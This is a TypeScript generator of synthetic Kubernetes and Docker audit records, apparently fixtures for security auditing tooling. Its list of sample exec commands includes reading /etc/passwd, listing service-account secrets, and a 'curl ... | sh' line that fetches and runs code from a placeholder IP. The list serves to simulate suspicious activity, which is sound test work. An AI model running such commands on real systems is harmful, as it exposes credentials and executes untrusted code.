import type { Access, Actor, AuditObject, AuditRecord, Severity } from '../../../record/record.gen.ts';
import { randomness } from '../queries/events.ts';

/** A record and where it is kept; the time is in milliseconds since the epoch. */
export interface Told {
  time: number;
  object: AuditObject;
  severity: Severity;
  actor: Actor;
  access: Access;
  record: Omit<AuditRecord, 'record_id' | 'record_version'>;
}

interface Pod {
  fields: Partial<AuditRecord>;
  image: string;
  from: number;
  to: number;
}

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;

const NAMESPACES = ['shop', 'payments', 'search', 'platform', 'batch', 'monitoring'];
const WORKLOADS = ['web', 'api', 'worker', 'cache'];
const PEOPLE = ['alice', 'bob', 'carol', 'mallory'];
const COMMANDS = [
  'sh',
  'cat /etc/passwd',
  'env',
  'ls -la /var/run/secrets',
  'psql -c "select 1"',
  'curl http://192.0.2.10/x | sh',
];

/**
 * What happens in a made-up cluster and on a host over a time: pods come and go with their workloads, crash, run out of memory; people run
 * commands in them and change things; images are pushed and moved. About so many marks lie between `from` and `to`; some pods are older.
 */
export function world(from: number, to: number, marks: number): Told[] {
  return new World(from, to).tell(marks);
}

class World {
  readonly #told: Told[] = [];
  readonly #random = randomness(11);
  readonly #from: number;
  readonly #to: number;
  #ids = 0;

  constructor(from: number, to: number) {
    this.#from = from;
    this.#to = to;
  }

  tell(marks: number): Told[] {
    // A pod's life makes some 20 marks; at least every workload has its pods.
    const pods = Math.max(Math.round(marks / 60), NAMESPACES.length * WORKLOADS.length);
    const all: Pod[] = [];
    for (let index = 0; index < pods; index++) {
      all.push(this.#life(index));
    }
    this.#images();
    this.#host();
    while (this.#told.length < marks) {
      this.#deed(this.#one(all));
    }
    return this.#told.filter(({ time }) => time < this.#to).sort((a, b) => a.time - b.time);
  }

  #one<T>(list: readonly T[]): T {
    return list[Math.floor(this.#random() * list.length)]!;
  }

  #between(from: number, to: number): number {
    return Math.round(from + this.#random() * (to - from));
  }

  #hex(length: number): string {
    this.#ids++;
    return this.#ids.toString(16).padStart(length, '0');
  }

  #say(time: number, about: Partial<Told>, record: Told['record']): void {
    const what = { object: 'container-lifecycle', severity: 'info', actor: 'system', access: 'none' } as const;
    this.#told.push({ time, ...what, ...about, record });
  }

  /** From the creation of a pod to its removal, which may lie beyond what is asked for. */
  #life(index: number): Pod {
    const namespace = NAMESPACES[index % NAMESPACES.length]!;
    const workload = WORKLOADS[Math.floor(index / NAMESPACES.length) % WORKLOADS.length]!;
    const fields = {
      k8s_namespace_name: namespace,
      k8s_pod_name: `${workload}-7d9f5c-${this.#hex(5)}`,
      k8s_pod_uid: `00000000-0000-4000-8000-${this.#hex(12)}`,
      k8s_workload_kind: 'Deployment',
      k8s_workload_name: workload,
    };
    const old = index % 5 === 0;
    let time = old ? this.#from - this.#between(HOUR, 5 * 24 * HOUR) : this.#between(this.#from, this.#to);
    const end = old || this.#random() < 0.5 ? this.#to + 1 : time + this.#between(MINUTE, (this.#to - this.#from) / 2);
    const image = `registry.example.com/${namespace}/${workload}:1.${index % 3}`;
    const asked = { user_name: this.#one(PEOPLE), client_address: '192.0.2.7' };
    const write = { actor: 'human', access: 'write' } as const;
    this.#say(time, write, { event_action: 'create', ...fields, ...asked });
    const node = { ...fields, k8s_node_name: `node-${index % 4}` };
    const pod: Pod = { fields: node, image, from: Math.max(time, this.#from), to: Math.min(end, this.#to) };
    this.#say((time += SECOND), write, { event_action: 'schedule', ...node, ...asked });
    const troubled = index % 7;
    if (troubled === 3) {
      const waits = {
        k8s_container_name: workload,
        k8s_container_type: 'container',
        k8s_container_restart_count: 0,
      } as const;
      this.#say(
        time,
        { severity: 'low' },
        { event_action: 'waiting', event_reason: 'ImagePullBackOff', ...node, ...waits }
      );
      time += this.#between(MINUTE, 10 * MINUTE);
    }
    time += this.#between(SECOND, 20 * SECOND);
    const crashes = troubled === 1 ? 6 : troubled === 2 ? 1 : 0;
    for (let run = 0; time < Math.min(end, this.#to); run++) {
      time = this.#run(pod, workload, time, run, crashes, end);
    }
    if (end < this.#to) {
      const gone = { user_name: this.#one(PEOPLE) };
      this.#say(end - 2 * SECOND, write, { event_action: 'delete', ...node, ...gone });
      this.#say(end, write, { event_action: 'destroy', ...node, ...gone });
    }
    return pod;
  }

  /** One run of a container; returns when the next can begin. */
  #run(pod: Pod, name: string, start: number, run: number, crashes: number, end: number): number {
    const container = {
      ...pod.fields,
      k8s_container_name: name,
      k8s_container_type: 'container',
      k8s_container_restart_count: run,
      container_id: this.#hex(64),
      container_image_name: pod.image,
      container_runtime_name: 'containerd',
    } as const;
    this.#say(
      start,
      { access: run > 0 ? 'none' : 'write' },
      { event_action: 'start', event_outcome: 'success', ...container }
    );
    if (run > 0) {
      this.#say(
        start,
        { severity: 'low' },
        { event_action: 'restart', ...container, event_reason: 'Error', process_exit_code: 1 }
      );
    }
    this.#say(start + 5 * SECOND, {}, { event_action: 'ready', ...pod.fields });
    const fails = run < crashes;
    const stop = fails ? Math.min(start + this.#between(30 * SECOND, 30 * MINUTE), end - 3 * SECOND) : end;
    if (stop > this.#to) {
      return stop;
    }
    const [reason, code] = fails ? (crashes === 1 ? ['OOMKilled', 137] : ['Error', 1]) : ['Completed', 143];
    const took = (stop - start) * 1e6;
    if (reason === 'OOMKilled') {
      this.#say(stop, { severity: 'medium' }, { event_action: 'oom', ...container, event_reason: reason });
    }
    const died = { event_reason: reason, process_exit_code: code, event_duration: took } as const;
    this.#say(stop, { severity: code === 143 ? 'info' : 'low' }, { event_action: 'die', ...container, ...died });
    if (!fails) {
      return stop;
    }
    this.#say(stop, { severity: 'low' }, { event_action: 'waiting', event_reason: 'CrashLoopBackOff', ...container });
    return stop + Math.min(10 * SECOND * 2 ** run, 5 * MINUTE);
  }

  /** Something that is done to a pod or reported of it. */
  #deed({ fields, image, from, to }: Pod): void {
    const time = this.#between(from, to);
    const who = { user_name: this.#one(PEOPLE), client_address: '192.0.2.7', k8s_audit_id: this.#hex(12) };
    const roll = this.#random();
    if (roll < 0.1) {
      const session = `session-${this.#hex(8)}`;
      const command = { ...fields, ...who, session_id: session, process_command_line: this.#one(COMMANDS) };
      const severity = command.process_command_line.includes('curl')
        ? 'critical'
        : this.#one(['medium', 'high'] as const);
      const exec = { object: 'kubernetes-audit', actor: 'human' } as const;
      this.#say(
        time,
        { ...exec, access: 'exec', severity },
        { event_action: 'exec', event_outcome: 'success', ...command }
      );
      this.#say(time + this.#between(SECOND, 20 * MINUTE), exec, { event_action: 'exec-end', ...command });
      return;
    }
    if (roll < 0.25) {
      const object = {
        k8s_namespace_name: fields.k8s_namespace_name,
        k8s_object_resource: 'deployments',
        k8s_object_name: fields.k8s_workload_name,
      };
      const asks = { object: 'kubernetes-audit', access: 'write', actor: 'human', severity: 'low' } as const;
      this.#say(time, asks, { event_action: 'patch', event_outcome: 'success', ...object, ...who });
      return;
    }
    const warns = this.#random() < 0.2;
    this.#say(
      time,
      { object: 'kubernetes-event', severity: warns ? 'low' : 'info' },
      {
        event_action: 'event',
        event_reason: warns ? 'Unhealthy' : 'Pulled',
        message: warns
          ? 'Readiness probe failed: HTTP probe failed with statuscode: 503'
          : `Container image "${image}" already present on machine`,
        k8s_object_resource: 'pods',
        k8s_object_name: fields.k8s_pod_name,
        ...fields,
      }
    );
  }

  #images(): void {
    for (const namespace of NAMESPACES) {
      for (const workload of WORKLOADS) {
        const image = {
          registry_name: 'registry.example.com',
          registry_product: 'distribution',
          container_image_repository: `${namespace}/${workload}`,
          user_name: 'ci',
        } as const;
        const changes = { object: 'image-registry', access: 'write', actor: 'service' } as const;
        for (let version = 0; version < 3; version++) {
          const digest = `sha256:${this.#hex(64)}`;
          const time = this.#between(this.#from, this.#to);
          this.#say(time, changes, {
            event_action: 'push',
            ...image,
            container_image_tag: `1.${version}`,
            oci_manifest_digest: digest,
          });
        }
        this.#say(
          this.#between(this.#from, this.#to),
          { ...changes, severity: 'medium', actor: 'human' },
          { event_action: 'tag-move', ...image, container_image_tag: '1.1', user_name: 'mallory' }
        );
      }
    }
  }

  /** A few containers of Docker. */
  #host(): void {
    for (const name of ['proxy', 'backup', 'metrics']) {
      const container = {
        host_name: 'host1',
        container_id: this.#hex(64),
        container_name: name,
        container_image_name: `${name}:2`,
        container_runtime_name: 'docker',
      };
      let time = this.#between(this.#from, this.#from + (this.#to - this.#from) / 4);
      const steps = ['create', 'start', 'pause', 'unpause', 'die', 'start'];
      for (const event_action of steps) {
        const more = event_action === 'die' ? { process_exit_code: 2 } : {};
        this.#say(time, { access: 'write', actor: 'unknown' }, { event_action, ...container, ...more });
        time += this.#between(SECOND, (this.#to - this.#from) / 8);
      }
      this.#say(
        this.#between(time, this.#to),
        { object: 'container-command', access: 'exec', actor: 'unknown', severity: 'medium' },
        { event_action: 'exec', ...container, process_command_line: 'sh', session_id: this.#hex(64) }
      );
    }
  }
}
